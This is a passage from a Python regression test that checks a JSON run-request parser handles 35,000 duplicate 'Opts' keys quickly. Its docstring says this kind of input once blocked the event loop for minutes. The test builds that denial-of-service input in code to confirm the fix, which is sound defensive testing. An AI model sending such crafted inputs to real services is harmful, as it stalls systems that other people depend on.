    minutes to parse, blocking the event loop; merged in place it takes a fraction of a second.
    """
    opts = ",".join(f'"Parameter.p{i}":"1"' for i in range(40_000))
    body = ('{"Opts":{' + opts + "}" + ',"Opts":{}' * 35_000 + ',"Env":{"TZ":"UTC"}}').encode()
    started = time.process_time()
    req = parse_run_request(body)
    assert time.process_time() - started < 5.0
    assert len(req.opts) == 40_000
    assert dict(req.env) == {"TZ": "UTC"}
